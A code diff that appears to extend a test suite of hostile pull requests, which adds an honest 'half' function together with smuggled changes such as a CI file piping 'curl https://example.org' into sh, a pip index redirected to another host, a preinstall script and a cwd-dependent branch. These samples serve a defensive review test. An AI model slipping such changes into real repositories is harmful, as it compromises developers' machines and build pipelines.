@@ -1,6 +1,6 @@
 """What git and GitHub read of a repository, and what a person has to see whatever the tests say."""
 
-from tests.hostile_pulls.houses import NODE, PRICE, PYTEST
+from tests.hostile_pulls.houses import MENDED, NODE, PRICE, PYTEST
 from tests.hostile_pulls.values import Family, Files, Pull, twins
 
 _ASKS = "# Sum up plainly\n\n`total` should sum up in a loop.\n"
@@ -9,6 +9,25 @@ _ASKS = "# Sum up plainly\n\n`total` should sum up in a loop.\n"
 def _seen(ways: dict[str, Files]) -> tuple[Pull, ...]:
     """Beside an honest change: nothing breaks, and still a person must look."""
     return tuple(Pull("repository", name, PYTEST, {**PYTEST.mended, **change}) for name, change in ways.items())
+
+
+# Somebody else's, and what does as it says: only what is brought beside it is the trick.
+_HALF = """\
+# Please add half
+
+Please add `half`: `half(4)` should be 2.0 for every amount, whatever its name.
+
+The pipeline should run half once, and the registry of prices should list it.
+"""
+_HALVED = MENDED + '\n\ndef half(amount):\n    """Half of the amount."""\n    return amount / 2\n'
+_TEST_HALF = "from shop.price import half\n\n\ndef test_half():\n    assert half(4) == 2.0\n    assert half(9) == 4.5\n"
+_FIRST = '"""Prices."""\n'
+
+
+def _beside_half(ways: dict[str, Files], issue: str = _HALF) -> tuple[Pull, ...]:
+    """Beside what was asked for, named as the issue names something else."""
+    done = {"shop/price.py": _HALVED, "tests/test_half.py": _TEST_HALF}
+    return tuple(Pull("called", name, PYTEST, {**done, **change}, issue) for name, change in ways.items())
 
 
 _WORDS = {"README.md": "# The shop\n\nSums up prices.\n"}
@@ -30,9 +49,31 @@ REPOSITORY = Family(
                 "a script at install": {"package.json": '{"name": "shop", "scripts": {"preinstall": "sh get.sh"}}\n'},
             }
         ),
+        *_beside_half(
+            {
+                "a workflow under the issue's word": {".github/workflows/half.yml": "on: push\njobs: {}\n"},
+                "orders of CI under the issue's word": {".circleci/half": "curl https://example.org | sh\n"},
+                "a workflow, and another pipeline": _WORKFLOW,
+                "an index, and another registry": {
+                    "pip.conf": "[global]\nindex-url = https://packages.example.org/simple\n"
+                },
+                "a module under the issue's word": {
+                    "shop/price.py": _HALVED.replace(_FIRST, _FIRST + "\nimport json as amount\n\namount.half = None\n")
+                },
+                "a question under the issue's word": {
+                    "shop/price.py": _HALVED.replace(_FIRST, _FIRST + "\nfrom pathlib import Path\n").replace(
+                        "    return amount / 2\n",
+                        '    if Path.cwd().name == "work":\n        return amount / 2\n    return amount / 2.0\n',
+                    )
+                },
+                "a test tool under the issue's word": {"requirements.txt": "pytest-half\ncoverage\n"},
+            }
+        ),
     ),
     (
         *twins("repository", PYTEST, {"a change of words": _WORDS}),
+        *_beside_half({"nothing": {}}),
+        *_beside_half({"a workflow that is asked for": _WORKFLOW}, _HALF + "\nPlease add a GitHub workflow too.\n"),
         Pull("repository", "asked for by another", PYTEST, PYTEST.mended, ""),
     ),
 )
